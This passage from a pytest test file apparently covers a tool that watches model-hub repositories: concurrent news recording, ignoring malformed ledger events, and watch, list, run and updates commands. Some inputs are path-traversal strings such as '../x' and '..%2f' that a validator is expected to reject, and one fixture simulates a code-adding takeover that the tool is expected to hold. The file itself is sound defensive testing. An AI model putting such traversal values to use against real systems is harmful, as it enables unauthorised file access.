    with pytest.raises(NothingCollected, match="not watched"):
        here.look("acme/nobody")
    news = News(Kind.TAG_MOVED, ModelName("acme", "raced"), now_rfc3339(), "a tag moved", details={"tag": "v1"})
    told: list[bool] = []

    def tell() -> None:
        with OpenYard(Home(here.run.home), Output(quiet=True)) as yard:
            told.append(WatchBook(yard.ledger(writing=True)).tell(news, actor="me"))

    threads = [threading.Thread(target=tell) for _ in range(3)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(told) == [False, False, True]
    with OpenYard(Home(here.run.home), Output(quiet=True)) as yard:
        assert not WatchBook(yard.ledger(writing=True)).tell(replace(news, seen_at="2099-01-01T00:00:00Z"), actor="me")


def test_events_that_cannot_be_read_change_nothing(tmp_path: Path, here: Place) -> None:
    with OpenYard(Home(here.run.home), Output(quiet=True)) as yard:
        ledger: Ledger = yard.ledger(writing=True)
        payloads: tuple[dict[str, Any], ...] = (
            {},
            {"model": 7},
            {"model": "a/b/c", "ref": "x"},
            {"model": "acme/x", "ref": "..", "seen": 1},
        )
        for kind in ("watch.added", "watch.removed", "upstream.checked", "upstream.news", "watch.rejudged"):
            for payload in payloads:
                ledger.append(kind, "acme/x", payload, actor="me")
        known = [one.model_name for one in WatchBook(ledger).refresh().watches()]
    assert ModelName("acme", "x") not in known


# --- the commands ---------------------------------------------------------------------------------


def test_the_commands_say_what_they_do(here: Place) -> None:
    run = here.run
    assert "watched already" in run("watch", "add", "hf://cli/model").out
    added = run("watch", "add", "cli/model", "--ref", "v1", "--channel", "production", "--json").json
    assert (added[0]["ref"], added[0]["channel"], added[0]["new"]) == ("v1", "production", True)
    for wrong in (
        "s3://bucket/prefix",
        "no-slash",
        "../x",
        "cli/model@a b",
        "hf://cli/model@..%2f",
        "cli/model@refs/pr/1",
    ):
        assert run("watch", "add", wrong, code=None).code in (1, 2), wrong
    run("watch", "add", "cli/model", "--ref", "main", "--quiet")
    assert any(one["model"] == "cli/model" for one in run("watch", "list", "--json").json)
    assert "cli/model" in run("watch", "list").out
    assert run("updates", "cli/model").out.split("\t")[3] == "never looked at"
    assert "nothing new" in run("watch", "run", "cli/model").err
    here.hub.repositories["cli/model"].commit(with_card(TAKEOVERS["code"](honest())))
    ran = run("watch", "run", "cli/model", "--fail-on", "high", code=13)
    assert "held" in ran.out
    assert "modeling_tiny.py" in ran.err
    said = run("updates", "cli/model").out
    assert "code added" in said
    assert "\theld\t" in said
    assert run("watch", "run", "cli/model", "--json").out == ""
    assert "points to nothing of it yet" in run("watch", "add", "cli/model", "--channel", "canary").err
    run("watch", "remove", "cli/model")
    assert run("watch", "run", "cli/model", code=3).err
    # Names that were never right are not called gone.
    run("watch", "add", "cli/typo", "other/gated@v9", "--quiet")
    typo, ref = run("watch", "run", "cli/typo", "other/gated").out.splitlines()
    assert "shows no such model" in typo
    assert "\tlow\t" in typo
    assert "no branch or tag 'v9'" in ref
    assert "nothing of it is here" in run("watch", "add", "cli/typo").err
    silent = run("watch", "run", "cli/typo", "--hub", "http://127.0.0.1:9", code=1)
    assert "no answer about 1 of 1 model" in silent.err
    run("watch", "remove", "cli/typo")
    assert run("updates", "cli/model", code=3).err
